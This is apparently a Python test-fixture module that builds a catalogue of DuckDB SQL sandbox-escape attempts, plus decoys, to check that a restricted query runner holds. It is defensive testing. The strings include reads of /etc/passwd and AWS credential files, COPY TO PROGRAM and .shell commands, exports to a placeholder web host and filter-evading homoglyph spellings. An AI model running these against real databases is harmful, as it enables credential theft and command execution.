"""SQL that tries to get out: things to read, places to hide them, statements, spellings.

`ESCAPES` is made of tables of building blocks. `{secret}`, `{web}` and so on are named in
`ground.py`. Nothing here may run; `DECOYS` look alike and must.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import cycle, islice


@dataclass(frozen=True, slots=True)
class Escape:
    """One attack: what it is one of, and its text."""

    group: str
    sql: str


# Functions in place of a table that open files.
_READERS = (
    "read_text", "read_blob", "read_csv", "read_csv_auto", "read_json", "read_json_auto",
    "read_json_objects", "read_json_objects_auto", "read_ndjson", "read_ndjson_auto",
    "read_ndjson_objects", "read_parquet", "parquet_scan", "parquet_metadata", "parquet_schema",
    "parquet_file_metadata", "parquet_kv_metadata", "parquet_full_metadata", "glob", "sniff_csv",
    "read_duckdb", "read_xlsx", "st_read", "read_avro", "read_arrow", "sqlite_scan", "iceberg_scan",
    "delta_scan", "lance_scan", "load_aws_credentials",
)  # fmt: skip
_NAMES_OF_FILES = (
    "'{secret}'", '"{secret}"', "'{above}'", "'{link}'", "'{file}'", "'{other}'", "'{store}/*.csv'",
    "'{folder}/**'", "'file://{secret}'", "'file:{secret}'", "'/proc/self/environ'", "'/dev/fd/0'",
    "'/proc/self/fd/3'", "'/etc/passwd'", "'~/.aws/credentials'", "E'{secret}'", "$${secret}$$",
    "'secret.csv'", "'../secret.csv'", '"{store}/../secret.csv"', "'{secret}' AS flows",
    "'data:text/csv,a'", "main.'{secret}'",
)  # fmt: skip
_ARGUMENTS = (
    "read_text(['{secret}'])", "read_csv('{secret}', header = true)", "read_text('{secret}' || '')",
    "read_csv(getenv('HOME') || '/x')", "parquet_bloom_probe('{file}', 'bytes', 1)",
    "read_parquet(['{file}', '{other}'])", "read_csv('{secret}', store_rejects = true)",
    "read_text(lower('{secret}'))", "read_text((SELECT '{secret}'))", "read_csv_auto(['{link}'])",
)  # fmt: skip
_NETWORK = (
    "'{web}/a.csv'", '"{web}/a.parquet"', "read_text('{web}/a')", "read_csv('{web}/a.csv')",
    "read_parquet('{web}/a.parquet')", "read_json('{web}/a.json')", "glob('{web}/*')",
    "'s3://bucket/a.parquet'", "read_parquet('s3://bucket/a.parquet')", "'gs://bucket/a.csv'",
    "'hf://datasets/a/b.csv'", "'azure://a/b.csv'", "'r2://a/b.csv'", "read_csv('ftp://127.0.0.1/a')",
    "postgres_scan('host=127.0.0.1 port={port}', 'public', 't')", "postgres_query('x', 'SELECT 1')",
    "mysql_scan('host=127.0.0.1', 'a', 'b')", "mysql_query('x', 'SELECT 1')",
    "ducklake_snapshots('x')", "http_get('{web}')", "open_prompt('{web}')",
)  # fmt: skip
# What shows the engine, its settings, secrets, and other catalogs.
_STATE = (
    *(f"duckdb_{name}()" for name in (
        "settings", "secrets", "secret_types", "extensions", "functions", "databases", "views", "tables",
        "columns", "constraints", "indexes", "keywords", "logs", "log_contexts", "memory", "optimizers",
        "schemas", "sequences", "temporary_files", "types", "variables", "dependencies",
        "prepared_statements", "external_file_cache", "approx_database_count", "which_secret",
    )),
    *(f"pragma_{name}()" for name in (
        "database_size", "metadata_info", "platform", "show", "storage_info", "table_info",
        "user_agent", "version", "collations", "last_profiling_output",
        "detailed_profiling_output",
    )),
    *(f"information_schema.{name}" for name in (
        "tables", "columns", "schemata", "key_column_usage", "table_constraints",
    )),
    *(f"pg_catalog.{name}" for name in ("pg_class", "pg_views", "pg_settings", "pg_tables", "pg_database")),
    "which_secret('s3://a', 's3')", "sqlite_master", "sqlite_schema", "sqlite_temp_master", "pg_views",
    "pg_settings", "duckdb_logs", "duckdb_views", "duckdb_columns", "duckdb_tables", "main.flows",
    "temp.flows", "memory.main.flows", "memory.flows", "system.main.duckdb_settings",
    "system.information_schema.tables", '"main"."flows"', '"memory"."main"."records"', "other.flows",
    "known_interfaces", '"known_interfaces"', "python_variable", "sys.modules",
)  # fmt: skip
# Functions in place of a table that run SQL, change or stop the engine, or read its memory.
_RUNNERS = (
    "query('SELECT 1')", "query('FROM read_text(''{secret}'')')", "query_table('flows')",
    "query_table(['flows', '{secret}'])", "json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "force_checkpoint()", "checkpoint()", "enable_logging()", "disable_logging()", "truncate_duckdb_logs()",
    "copy_database('a', 'b')", "import_database('{folder}')", "seq_scan('flows')", "index_scan('flows')",
    "pandas_scan(1)", "arrow_scan(1, 2, 3)", "arrow_scan_dumb(1, 2, 3)", "python_map_function()",
    "test_all_types()", "test_vector_types(1)", "repeat_row(1, num_rows = 3)", "summary((FROM flows))",
    "histogram(flows, bytes)", "histogram_values(flows, bytes)", "sql_auto_complete('SEL')",
    "from_substrait('x')", "get_substrait('SELECT 1')", "icu_calendar_names()", "pg_timezone_names()",
    "set_config()", "enable_profiling()", "enable_peg_parser()", "check_peg_parser('SELECT 1')",
    "parse_duckdb_log_message('x', 'y')", "register_geoarrow_extensions()", "write_log('x')",
    "unnest((SELECT list(content) FROM read_text('{secret}')))", "range((SELECT 1 FROM '{secret}'))",
)  # fmt: skip
_SOURCES: dict[str, tuple[str, ...]] = {
    "files by name": _NAMES_OF_FILES,
    "functions that read": (*(f"{name}('{{secret}}')" for name in _READERS), *_ARGUMENTS),
    "network": _NETWORK,
    "settings, secrets, catalogs": _STATE,
    "functions that run": _RUNNERS,
}
# Where a table may stand.
_PLACES = (
    "SELECT * FROM {t}", "FROM {t}", "WITH a AS (SELECT * FROM {t}) SELECT * FROM a",
    "WITH a AS MATERIALIZED (FROM {t}) SELECT 1 FROM a", "WITH flows AS (FROM {t}) FROM flows",
    "WITH RECURSIVE a(i) AS (SELECT 1 UNION ALL SELECT 2 FROM a, {t} WHERE i < 2) FROM a",
    "WITH a AS (WITH b AS (FROM {t}) FROM b), c AS (FROM a) FROM c", "SELECT (SELECT 1 FROM {t})",
    "SELECT * FROM (SELECT * FROM (SELECT * FROM {t}))", "SELECT 1 FROM flows WHERE EXISTS (FROM {t})",
    "SELECT * FROM flows WHERE srcaddr IN (FROM {t})", "SELECT * FROM flows, {t}",
    "SELECT * FROM flows JOIN {t} ON true", "SELECT * FROM flows LEFT JOIN {t} ON 1 = 1",
    "SELECT * FROM flows POSITIONAL JOIN {t}", "SELECT * FROM flows, LATERAL (SELECT * FROM {t})",
    "SELECT * FROM flows SEMI JOIN {t} USING (srcaddr)", "SELECT * FROM flows UNION SELECT * FROM {t}",
    "SELECT 1 EXCEPT SELECT 1 FROM {t}", "(SELECT 1) INTERSECT (FROM {t})", "SELECT ARRAY(FROM {t})",
    "SELECT 1 LIMIT (SELECT count(*) FROM {t})", "SELECT 1 OFFSET (SELECT 1 FROM {t})",
    "SELECT * FROM flows ORDER BY (SELECT 1 FROM {t})",
    "SELECT count(*) FROM flows GROUP BY (SELECT 1 FROM {t})",
    "SELECT 1 FROM flows HAVING (SELECT 1 FROM {t}) = 1",
    "SELECT 1 FROM flows QUALIFY (SELECT 1 FROM {t}) = 1",
    "SELECT sum(1) OVER (PARTITION BY (SELECT 1 FROM {t})) FROM flows",
    "SELECT sum(1) OVER (ORDER BY bytes ROWS (SELECT 1 FROM {t}) PRECEDING) FROM flows",
    "SELECT sum(1) FILTER (WHERE (SELECT 1 FROM {t}) = 1) FROM flows",
    "SELECT CASE WHEN EXISTS (FROM {t}) THEN 1 END", "SELECT list_transform([1], lambda x: (SELECT 1 FROM {t}))",
    "SELECT [x FOR x IN (SELECT list(1) FROM {t})]", "SELECT {{'a': (SELECT 1 FROM {t})}}",
    "VALUES ((SELECT 1 FROM {t}))", "SELECT * FROM (VALUES ((SELECT 1 FROM {t}))) v",
    "DESCRIBE SELECT * FROM {t}", "DESCRIBE {t}", "SUMMARIZE {t}", "FROM (DESCRIBE FROM {t})",
    "FROM (SUMMARIZE FROM {t})", "EXPLAIN SELECT * FROM {t}", "EXPLAIN ANALYZE SELECT * FROM {t}",
    "PIVOT {t} ON a IN ('a') USING count(*)", "UNPIVOT {t} ON a", "FROM {t} TABLESAMPLE 1 ROWS",
    "SELECT a.* FROM {t} AS a(b)", "SELECT COLUMNS(*) FROM {t}", "SELECT * FROM flows ANTI JOIN {t} ON true",
    "SELECT 1 WHERE 1 = ANY (SELECT 1 FROM {t})", "SELECT * FROM flows ASOF JOIN {t} x ON flows.bytes >= x.a",
    "SELECT DISTINCT ON ((SELECT 1 FROM {t})) * FROM flows", "SELECT * REPLACE ((SELECT 1 FROM {t}) AS bytes) FROM flows",
    "SELECT EXISTS (WITH a AS (FROM {t}) FROM a)", "SELECT * FROM flows f, (SELECT f.bytes, * FROM {t})",
    "FROM flows SELECT bytes BETWEEN 1 AND (SELECT 1 FROM {t})",
)  # fmt: skip
# Each thing to read in this many places, one after the other.
_PLACES_EACH = 6

_STATEMENTS = (
    "INSERT INTO flows VALUES (1)", "INSERT INTO flows FROM '{secret}'", "UPDATE flows SET bytes = 0",
    "DELETE FROM flows", "TRUNCATE flows", "MERGE INTO flows USING records ON true WHEN MATCHED THEN DELETE",
    "CREATE TABLE t AS FROM '{secret}'", "CREATE TEMP TABLE t AS SELECT 1", "CREATE OR REPLACE VIEW flows AS SELECT 1",
    "CREATE TABLE t (a INTEGER)", "CREATE SCHEMA s", "CREATE SEQUENCE s", "CREATE TYPE t AS ENUM ('a')",
    "CREATE INDEX i ON flows (bytes)", "CREATE MACRO m() AS TABLE FROM read_text('{secret}')",
    "CREATE FUNCTION m(a) AS a", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "CREATE PERSISTENT SECRET s (TYPE http, SCOPE '{web}')", "DROP SECRET s", "DROP VIEW flows",
    "DROP TABLE IF EXISTS flows", "ALTER VIEW flows RENAME TO x", "COMMENT ON VIEW flows IS 'x'",
    "COPY (SELECT 1) TO '{folder}/out.csv'", "COPY (SELECT 1) TO '{store}/out.csv'", "COPY flows TO '{file}'",
    "COPY flows FROM '{secret}'", "COPY (SELECT 1) TO '{web}/a.csv'", "COPY (SELECT 1) TO '/dev/stdout'",
    "COPY (SELECT 1) TO PROGRAM 'touch {folder}/out'", "COPY FROM DATABASE memory TO x",
    "EXPORT DATABASE '{folder}/out'", "IMPORT DATABASE '{folder}'", "ATTACH '{folder}/out.db' AS x",
    "ATTACH '{store}/out.db'", "ATTACH ':memory:' AS m", "ATTACH '{web}/x.db' (READ_ONLY)",
    "ATTACH 'host=127.0.0.1 port={port}' AS p (TYPE postgres)", "ATTACH '{secret}' (TYPE sqlite)", "DETACH memory",
    "USE memory", "INSTALL httpfs", "INSTALL x FROM '{web}'", "FORCE INSTALL httpfs FROM community",
    "LOAD httpfs", "LOAD '{secret}'", "UPDATE EXTENSIONS", "UPDATE EXTENSIONS (httpfs)",
    "SET lock_configuration = false", "SET enable_external_access = true", "SET allowed_directories = ['/']",
    "SET allowed_paths = ['{secret}']", "SET disabled_filesystems = ''", "SET memory_limit = '100GB'",
    "SET threads = 64", "SET temp_directory = '{folder}'", "SET python_enable_replacements = true",
    "SET SESSION search_path = 'main'", "SET custom_extension_repository = '{web}'", "SET http_proxy = '{web}'",
    "SET log_query_path = '{folder}/out.log'", "SET profiling_output = '{folder}/out.json'",
    "SET enable_logging = true", "SET home_directory = '{folder}'", "SET secret_directory = '{folder}'",
    "RESET ALL", "RESET enable_external_access", "SET VARIABLE a = (SELECT content FROM read_text('{secret}'))",
    "PRAGMA version", "PRAGMA database_list", "PRAGMA enable_profiling", "PRAGMA profile_output='{folder}/out'",
    "PRAGMA enable_external_access=true", "PRAGMA table_info('flows')", "PRAGMA force_checkpoint",
    "CALL pragma_version()", "CALL enable_logging()", "CALL read_text('{secret}')", "CALL duckdb_settings()",
    "CALL force_checkpoint()", "CHECKPOINT", "FORCE CHECKPOINT", "VACUUM", "ANALYZE", "BEGIN", "COMMIT", "ROLLBACK",
    "PREPARE p AS FROM '{secret}'", "EXECUTE p", "EXECUTE p(1)", "DEALLOCATE p", "DECLARE c CURSOR FOR SELECT 1",
    "SHOW ALL TABLES", "SHOW DATABASES", "SHOW threads", "SHOW SCHEMAS", "SHOW VARIABLES", "DESCRIBE '{secret}'",
    "SUMMARIZE '{secret}'", "TABLE '{secret}'", 'TABLE "{secret}"', "KILL 1", "LISTEN x", "DO 1", "LOCK flows",
    "GRANT ALL ON flows TO x", "EXPLAIN DROP VIEW flows", "EXPLAIN ANALYZE COPY flows TO '{folder}/out'",
    "EXPLAIN ANALYZE CREATE TABLE t AS FROM '{secret}'", "EXPLAIN EXPLAIN SELECT * FROM '{secret}'",
    ".read {secret}", ".shell touch {folder}/out", "\\! touch {folder}/out", "SELECT * INTO t FROM flows",
)  # fmt: skip
_WRAPPED = (
    "{s}", "SELECT 1; {s}", "{s}; SELECT 1", "/* SELECT 1 */ {s}", "-- SELECT 1\n{s}", "EXPLAIN {s}",
    "EXPLAIN ANALYZE {s}", "WITH x AS ({s}) SELECT * FROM x", "SELECT * FROM ({s})", "SELECT 1;;;{s};",
    "PREPARE p AS {s}", "(({s}))", "CREATE TABLE t AS {s}", "\ufeff{s}", ";{s}", "SELECT 1 \x00 {s}",
    "SELECT 1 UNION ALL {s}", "WITH x AS MATERIALIZED ({s} RETURNING *) FROM x", "SELECT '\\'; {s} --'",
)  # fmt: skip
_WRAPPED_EACH = 3

_CALLS = (
    "getenv('HOME')", "current_setting('threads')", "getvariable('a')", "write_log('x')", "sleep_ms(1)",
    "pg_sleep(1)", "nextval('s')", "currval('s')", "setseed(0.5)", "pg_get_viewdef(1)", "current_query()",
    "current_connection_id()", "txid_current()", "version()", "inet_client_addr()", "json_serialize_sql('SELECT 1')", "json_deserialize_sql('x')",
    "json_serialize_plan('SELECT 1')", "pg_typeof(getenv('HOME'))", "stats(bytes)", "vector_type(bytes)",
    "in_search_path('a', 'b')", "main.getenv('HOME')", "system.main.getenv('HOME')", '"getenv"(\'HOME\')',
    "GetEnv('HOME')", "'HOME'.getenv()", "pg_catalog.pg_sleep(1)",
    "pg_table_size('flows')", "obj_description(1)", "pg_is_in_recovery()", "__internal_compress_string_hugeint('a')",
    "'{secret}'.read_text()", "read_text('{secret}')", "lo_import('{secret}')", "load_extension('{secret}')",
    "readfile('{secret}')", "current_query_id()", "current_transaction_id()", "pg_read_file('{secret}')",
)  # fmt: skip
_AROUND = (
    "SELECT {f}", "SELECT * FROM flows WHERE {f} IS NULL", "SELECT list_transform([1], lambda x: {f})",
    "SELECT reduce([1, 2], lambda a, b: {f})", "SELECT CASE WHEN false THEN {f} END",
    "SELECT count(*) FROM flows GROUP BY {f}", "SELECT max({f}) OVER () FROM flows",
    "SELECT coalesce(1, {f})", "WITH a AS (SELECT {f} AS b) FROM a", "FROM range(1) WHERE {f} = 'a'",
    "SELECT try({f})", "SELECT [{f}]", "SELECT {{'a': {f}}}", "VALUES ({f})", "SELECT 1 LIMIT {f}",
)  # fmt: skip
_AROUND_EACH = 3

# One thing to read in many spellings; and names that a WITH gives, taken for others.
_SPELLINGS = (
    "SELECT * FROM READ_TEXT('{secret}')", "SELECT * FROM \"read_text\"('{secret}')",
    "SELECT * FROM Read_Text/**/('{secret}')", "SELECT * FROM read_text -- x\n('{secret}')",
    "SELECT * FROM main.read_text('{secret}')", "SELECT * FROM system.main.read_text('{secret}')",
    "SELECT * FROM pg_catalog.read_text('{secret}')", 'SELECT * FROM "main"."read_text"(\'{secret}\')',
    "SELECT * FROM read_text(U&'{secret}')", "SELECT * FROM read_text(E'{secret}')",
    "SELECT * FROM read_text($a${secret}$a$)", "SELECT*FROM(read_text('{secret}'))",
    "SELECT/**/*/**/FROM/**/read_text('{secret}')", "SELECT * FROM\tread_text\n(\r'{secret}')",
    "SELECT * FROM\u00a0read_text('{secret}')", "SELECT * FROM\u2003read_text('{secret}')",
    "SELECT * FROM \uff52ead_text('{secret}')", "SELECT * FROM read\u200b_text('{secret}')",
    "SELECT * FROM r\u0435ad_text('{secret}')", "SELECT * FROM read_text('{secret}\x00')",
    "SELECT * FROM '{secret}\x00.parquet'", "SELECT * FROM \u2018{secret}\u2019",
    "SELECT * FROM /* flows */ '{secret}'", "SELECT * FROM flows /* */, '{secret}' /* */",
    "SELECT 1 AS \"flows\" FROM '{secret}'", 'SELECT * FROM "flows""; FROM \'{secret}\'"',
    "SELECT * FROM '' '{secret}'", "SELECT * FROM 'flows' '{secret}'", "SELECT * FROM flows.'{secret}'",
    "SELECT * FROM flows AT (VERSION => 1)", "SELECT * FROM flows AT (TIMESTAMP => now())",
    "SELECT $1", "SELECT ?", "SELECT $name", "SELECT * FROM $1", "SELECT * FROM ?", "SELECT * FROM read_text($1)",
    "SELECT 'x'::INET", "SELECT '{secret}'::GEOMETRY::BLOB::x", "", ";", ";;", "--", "/*", "SELECT", "not sql",
    'WITH "{secret}" AS (SELECT 1) SELECT * FROM "{secret}"', "WITH \"a b\" AS (SELECT 1) FROM \"a b\"",
    "WITH pg_class AS (SELECT 1) FROM pg_class", "WITH duckdb_settings AS (SELECT 1) FROM duckdb_settings()",
    "WITH sqlite_master AS (SELECT 1) SELECT 1", "WITH \u0455 AS (SELECT 1) FROM s",
    "SELECT * FROM x WHERE (WITH x AS (SELECT 1) SELECT 1) = 1",
    "SELECT * FROM pg_views WHERE (WITH pg_views AS (SELECT 1) SELECT 1) = 1",
    "SELECT * FROM (WITH x AS (SELECT 1) FROM x) AS y, x", "SELECT 1 UNION (WITH x AS (SELECT 1) FROM x) UNION FROM x",
    "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "WITH a AS (FROM a) FROM a",
    "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
    "WITH RECURSIVE x AS (SELECT * FROM x UNION ALL SELECT * FROM x) SELECT * FROM x",
    "WITH tables AS (SELECT * FROM tables) SELECT * FROM tables",
    "WITH sqlite_schema AS (FROM sqlite_schema) FROM sqlite_schema",
    "WITH known_interfaces AS (FROM known_interfaces) FROM known_interfaces, flows",
    "WITH a AS (SELECT 1) SELECT * FROM main.a", "WITH a AS (SELECT 1) SELECT * FROM memory.main.a",
    "WITH a(x) AS (SELECT 1), b AS (FROM '{secret}') FROM a", "SELECT * FROM flows; SELECT * FROM '{secret}'",
    "SELECT * FROM flows\n;\nSELECT * FROM '{secret}'", "SELECT 1/* ; */; FROM '{secret}'",
    "FROM flows -- \r; FROM '{secret}'\n; FROM '{secret}'", "SELECT '\ud800'", "SELECT * FROM flows WHERE srcaddr = '\udcff'",
    "SHOW TABLES; FROM '{secret}'", "SELECT * FROM (SHOW TABLES), (FROM '{secret}')", "FROM (SHOW ALL TABLES)",
    "FROM (SHOW DATABASES)", "SELECT * FROM flows JOIN (SHOW TABLES) ON true",
)  # fmt: skip

# They look like attacks and are none: words of another kind than they seem, and constants that
# DuckDB gives whoever asks. They must run.
DECOYS = (
    "SELECT current_user, session_user, user", "SELECT has_table_privilege('a', 'b')",
    "SELECT 'SELECT * FROM read_text(''{secret}'')' AS text", "SELECT 1 /* FROM '{secret}' */",
    "SELECT 1 -- ; DROP VIEW flows", 'SELECT 1 AS "read_text"', "SELECT $$'; DROP VIEW flows; --$$ AS text",
    "WITH read_text AS (SELECT 1) FROM read_text", "SELECT 'http://127.0.0.1/' AS url", "SELECT 1;",
    "SELECT count(*) AS n FROM flows WHERE srcaddr = '{secret}'", "SELECT 'a;b' AS text;",
    "WITH secret AS (SELECT 1 AS settings) SELECT settings FROM secret", "SELECT 'getenv' || '()' AS text",
)  # fmt: skip


def _made() -> list[Escape]:
    """All of them, each once."""
    found: dict[str, Escape] = {}
    places, wraps, arounds = cycle(_PLACES), cycle(_WRAPPED), cycle(_AROUND)

    def add(group: str, sql: str) -> None:
        found.setdefault(sql, Escape(group, sql))

    for group, tables in _SOURCES.items():
        for table in tables:
            for place in (_PLACES[0], *islice(places, _PLACES_EACH)):
                add(group, place.replace("{{", "{").replace("}}", "}").replace("{t}", table))
    for place in _PLACES:
        text = place.replace("{{", "{").replace("}}", "}")
        add("places to hide in", text.replace("{t}", "read_csv('{secret}')"))
    for statement in _STATEMENTS:
        for wrapped in (_WRAPPED[0], *islice(wraps, _WRAPPED_EACH)):
            add("statements", wrapped.replace("{s}", statement))
    for call in _CALLS:
        for around in (_AROUND[0], *islice(arounds, _AROUND_EACH)):
            add("functions", around.replace("{{", "{").replace("}}", "}").replace("{f}", call))
    for sql in _SPELLINGS:
        add("spellings and scopes", sql)
    return list(found.values())


ESCAPES = _made()
